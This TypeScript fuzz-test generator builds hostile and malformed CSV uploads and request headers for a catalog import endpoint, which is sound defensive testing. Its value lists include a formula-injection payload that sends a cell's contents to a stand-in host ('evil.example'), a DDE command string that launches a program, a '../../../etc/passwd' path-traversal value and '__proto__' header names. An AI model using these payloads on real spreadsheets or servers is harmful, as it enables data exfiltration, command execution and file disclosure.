import fc from "fast-check";
import { MAX_SHEET_BYTES, MAX_SHEET_ROWS, SHEET_COLUMNS, type SheetColumn } from "@shared/catalog-sheet";
import { csvText, type SheetRows } from "../catalog-csv";
import { hostileHeaderValue, hostileText } from "./hostile-values";

/** One cell of the valid file given another value: a column it has, or one it gains (empty on the other rows). */
interface CellChange {
  /** The row, counted from the first and wrapped around. */
  row: number;
  column: SheetColumn;
  to: string;
}

/** A change to the file's header: a column no catalog has, one named twice or left out, a name spelt otherwise. */
type HeaderChange =
  | { kind: "unknown column"; name: string }
  | { kind: "column named twice"; column: SheetColumn }
  | { kind: "column left out"; column: SheetColumn }
  | { kind: "column spelt otherwise"; column: SheetColumn; spelling: string };

/** What a fuzz case of `POST /api/products.csv` sends as the file, said in terms of the scene's valid file. */
export type CsvPlan =
  | {
      kind: "valid, with changes";
      cells: readonly CellChange[];
      header: HeaderChange | null;
      /** Rows copied from the valid ones (a SKU or a variant given twice), and how many. */
      copies: number;
      lineEnding: "\r\n" | "\n" | "\r";
      bom: boolean;
    }
  | { kind: "raw text inserted"; at: number; text: string }
  | { kind: "row with a cell too few or too many"; row: number; more: boolean }
  | { kind: "truncated"; at: number }
  | { kind: "header only" | "too many rows" | "no body" }
  | { kind: "not CSV"; text: string }
  | { kind: "invalid UTF-8"; bytes: number[] }
  | { kind: "over the body limit"; padding: string };

export interface CsvCase {
  body: CsvPlan;
  contentType: string | null;
  /** The `dryRun` query parameter: absent, once, or given twice. */
  dryRun: readonly string[];
  accept: string | null;
}

/** Texts that a spreadsheet would run as a formula, with and without the apostrophe the export puts before them. */
// prettier-ignore
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=1+1", "+1", "-1", "@SUM(A1:A9)", "\t=1", "\r=1",
  "'=1+1", "''=1", "=cmd|' /C calc'!A0", "-2+3", "+৮৮০১৭",
];

/** Numbers as a spreadsheet (or a careless hand) writes them. */
// prettier-ignore
const NUMBERS = [
  "0", "-0", "-1", "1", "0.5", "1.005", "19.999", "১,২৫০.৫০", "৪০", "1,250.50", "1 250", "1e3", "1E999", "NaN",
  "Infinity", "0x10", "9007199254740993", "2147483648", "99999999999", "١٢", "١٢٣", "٫5", "12abc", "", " ", "--1",
];

/** Values some column gives meaning to: flags, slugs, photos, SKUs, ids. */
// prettier-ignore
const MEANINGFUL = [
  "yes", "no", "YES", "হ্যাঁ", "না", "maybe", "true", "1", "other", "Other", "no-such-shelf", "marking-gauge.svg",
  "marking-gauge.svg|marking-gauge.svg", "marking-gauge.svg|block-plane.svg", "/images/products/block-plane.svg",
  "https://evil.example/x.png", "../../../etc/passwd", "|||", "a".repeat(300), "00000000-0000-0000-0000-000000000000",
  "ffffffff-ffff-ffff-ffff-ffffffffffff", "new-1", "NEW-1", "RND-000000000000", "SKU WITH SPACES", "sku,comma",
  "x".repeat(41), "Width", "প্রস্থ", "12 mm", "a\nb", 'say "hi"', "1,2", "IMP-1\u202e",
];

/** Text PostgreSQL cannot hold (NUL), alone and in a SKU's or an id's place. */
const UNSTORABLE = ["\u0000", "RND-\u0000", "a\u0000b", "\u0000\u202e"];

const cellValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: hostileText },
  { weight: 1, arbitrary: fc.constantFrom(...UNSTORABLE) },
  { weight: 2, arbitrary: fc.constantFrom(...FORMULAS) },
  { weight: 3, arbitrary: fc.constantFrom(...NUMBERS) },
  { weight: 3, arbitrary: fc.constantFrom(...MEANINGFUL) },
  { weight: 1, arbitrary: fc.uuid() },
);

/** Any column, more often one the import looks things up by: a tool, a variant, a SKU, a shelf, a photo. */
const column = fc.oneof(
  { weight: 1, arbitrary: fc.constantFrom(...SHEET_COLUMNS) },
  {
    weight: 2,
    arbitrary: fc.constantFrom<SheetColumn>("product_id", "variant_id", "sku", "category", "images", "variant_image"),
  },
);

const headerChange: fc.Arbitrary<HeaderChange> = fc.oneof(
  fc.record({
    kind: fc.constant("unknown column" as const),
    name: fc.oneof(
      fc.constantFrom("__proto__", "constructor", "toString", "id", "Price (Tk)", "", " ", "sku\u0000", "স্টক"),
      hostileText,
    ),
  }),
  fc.record({ kind: fc.constant("column named twice" as const), column }),
  fc.record({ kind: fc.constant("column left out" as const), column }),
  fc.record({
    kind: fc.constant("column spelt otherwise" as const),
    column,
    spelling: fc.constantFrom("upper case", "padded", "with a BOM", "non-breaking space"),
  }),
);

const SPELLINGS: Record<string, (name: string) => string> = {
  "upper case": (name) => name.toUpperCase(),
  padded: (name) => ` ${name}\t`,
  "with a BOM": (name) => `\uFEFF${name}`,
  "non-breaking space": (name) => `${name}\u00a0`,
};

/** Text that breaks a CSV's quoting or framing, put anywhere in the valid file. */
const RAW_INSERTS = ['"', '"x', 'x"', '""', ",", "\r", "\n", "\r\n", '\n"', "\u0000", "\uFEFF", '","', "\\"];

const csvPlans: fc.Arbitrary<CsvPlan> = fc.oneof(
  {
    weight: 16,
    arbitrary: fc.record({
      kind: fc.constant("valid, with changes" as const),
      cells: fc.oneof(
        { weight: 1, arbitrary: fc.constant([]) },
        {
          weight: 6,
          arbitrary: fc.array(fc.record({ row: fc.nat(9), column, to: cellValue }), { minLength: 1, maxLength: 4 }),
        },
      ),
      header: fc.oneof({ weight: 4, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: headerChange }),
      copies: fc.oneof(
        { weight: 6, arbitrary: fc.constant(0) },
        { weight: 1, arbitrary: fc.integer({ min: 1, max: 3 }) },
      ),
      lineEnding: fc.constantFrom("\r\n" as const, "\n" as const, "\r" as const),
      bom: fc.boolean(),
    }),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      kind: fc.constant("raw text inserted" as const),
      at: fc.double({ min: 0, max: 1, noNaN: true }),
      text: fc.constantFrom(...RAW_INSERTS),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("row with a cell too few or too many" as const),
      row: fc.nat(9),
      more: fc.boolean(),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({ kind: fc.constant("truncated" as const), at: fc.double({ min: 0, max: 1, noNaN: true }) }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constantFrom("header only" as const, "too many rows" as const, "no body" as const),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("not CSV" as const),
      text: fc.oneof(
        hostileText,
        fc.constantFrom('{"product_id":"x","sku":"y"}', "<xml/>", "product_id;sku\nx;y", "\uFEFF"),
      ),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("invalid UTF-8" as const),
      bytes: fc.array(fc.integer({ min: 0x80, max: 0xff }), { minLength: 1 }),
    }),
  },
  {
    weight: 1,
    arbitrary: fc.record({
      kind: fc.constant("over the body limit" as const),
      padding: fc.constantFrom("a", "ক", "😀", ","),
    }),
  },
);

/** Files for the use case itself (`importCatalog`'s `csv`): no door's body limit stands before it, nor a media type. */
export const csvFiles = csvPlans.filter((plan) => plan.kind !== "over the body limit");

const CONTENT_TYPES = [
  "text/csv; charset=utf-8",
  "text/plain",
  "application/json",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=x",
  "text/csv; charset=iso-8859-1",
  "application/vnd.ms-excel",
  "",
];

const DRY_RUNS = ["true", "false", "TRUE", "1", "yes", "", " true", "true\u0000", "null", "[]"];

const NDJSON = "application/x-ndjson";

/** Fuzz cases of `POST /api/products.csv`: mostly the valid file with something hostile in it, its header and query. */
export const csvCases: fc.Arbitrary<CsvCase> = fc.record({
  body: csvPlans,
  contentType: fc.oneof(
    { weight: 6, arbitrary: fc.constant("text/csv") },
    { weight: 1, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
    { weight: 1, arbitrary: fc.constant(null) },
  ),
  dryRun: fc.oneof(
    { weight: 3, arbitrary: fc.constant(["true"]) },
    { weight: 2, arbitrary: fc.constant(["false"]) },
    { weight: 1, arbitrary: fc.constant([]) },
    {
      weight: 1,
      arbitrary: fc.array(fc.oneof(fc.constantFrom(...DRY_RUNS), hostileHeaderValue), { minLength: 1, maxLength: 2 }),
    },
  ),
  accept: fc.oneof(
    { weight: 4, arbitrary: fc.constant(null) },
    { weight: 2, arbitrary: fc.constantFrom(NDJSON, `application/json, ${NDJSON}`, "text/csv", "*/*") },
    { weight: 1, arbitrary: hostileHeaderValue },
  ),
});

/** The valid request: the scene's file, as text/csv, a dry run, answered as JSON. */
export const VALID_CSV_CASE: CsvCase = {
  body: { kind: "valid, with changes", cells: [], header: null, copies: 0, lineEnding: "\r\n", bom: false },
  contentType: "text/csv",
  dryRun: ["true"],
  accept: null,
};

/** A file's header and rows as the valid rows have them, changed as a plan says. */
function changedFile(valid: SheetRows, plan: Extract<CsvPlan, { kind: "valid, with changes" }>) {
  const rows = valid.map((row) => ({ ...row }) as Record<string, string>);
  for (let i = 0; i < plan.copies; i++) rows.push({ ...rows[i % valid.length]! });
  const names: string[] = Object.keys(valid[0]!);
  for (const change of plan.cells) {
    if (!names.includes(change.column)) names.push(change.column);
    rows[change.row % rows.length]![change.column] = change.to;
  }
  let cells = rows.map((row) => names.map((name) => row[name] ?? ""));
  const h = plan.header;
  if (h?.kind === "unknown column") {
    names.push(h.name);
    cells = cells.map((row) => [...row, "x"]);
  } else if (h?.kind === "column named twice") {
    const at = names.indexOf(h.column);
    names.push(h.column);
    cells = cells.map((row) => [...row, at === -1 ? "" : row[at]!]);
  } else if (h?.kind === "column left out") {
    const at = names.indexOf(h.column);
    if (at !== -1) {
      names.splice(at, 1);
      cells = cells.map((row) => row.filter((_, i) => i !== at));
    }
  } else if (h?.kind === "column spelt otherwise") {
    const at = names.indexOf(h.column);
    if (at !== -1) names[at] = SPELLINGS[h.spelling]!(h.column);
  }
  return { names, cells };
}

/** The file a plan describes, given the scene's valid rows: text, or bytes when it is not UTF-8. */
export function renderCsv(plan: CsvPlan, valid: SheetRows): string | Uint8Array<ArrayBuffer> | undefined {
  const header = Object.keys(valid[0]!);
  const validText = csvText(
    header,
    valid.map((row) => header.map((column) => row[column as SheetColumn] ?? "")),
  );
  switch (plan.kind) {
    case "valid, with changes": {
      const { names, cells } = changedFile(valid, plan);
      return csvText(names, cells, plan.lineEnding, plan.bom);
    }
    case "raw text inserted": {
      const at = Math.floor(plan.at * validText.length);
      return validText.slice(0, at) + plan.text + validText.slice(at);
    }
    case "row with a cell too few or too many": {
      const cells = valid.map((row) => header.map((column) => row[column as SheetColumn] ?? ""));
      const row = cells[plan.row % cells.length]!;
      if (plan.more) row.push("one too many");
      else row.pop();
      return csvText(header, cells);
    }
    case "truncated":
      return validText.slice(0, Math.floor(plan.at * validText.length));
    case "header only":
      return csvText(header, []);
    case "too many rows": {
      const [, first] = validText.split("\r\n");
      return validText + `${first}\r\n`.repeat(MAX_SHEET_ROWS);
    }
    case "not CSV":
      return plan.text;
    case "invalid UTF-8":
      return new Uint8Array([...Buffer.from(validText.slice(0, -3)), ...plan.bytes, 0x0d, 0x0a]);
    case "over the body limit":
      // The valid file and a last row of one huge cell: one byte more than the call's 10 MB, or a few more.
      return `${validText}${plan.padding.repeat(Math.ceil((MAX_SHEET_BYTES + 1) / Buffer.byteLength(plan.padding)))}\r\n`;
    case "no body":
      return undefined;
  }
}

/** The text a door hands the use case for a plan's body: bytes decoded as `c.req.text()` decodes them. */
export function csvTextOf(plan: CsvPlan, valid: SheetRows): string {
  const body = renderCsv(plan, valid);
  if (body === undefined) return "";
  return typeof body === "string" ? body : new TextDecoder().decode(body);
}

/** The query string of a case's `dryRun` parameters. */
export const dryRunQuery = (values: readonly string[]) =>
  values.length === 0 ? "" : `?${values.map((v) => `dryRun=${encodeURIComponent(v)}`).join("&")}`;
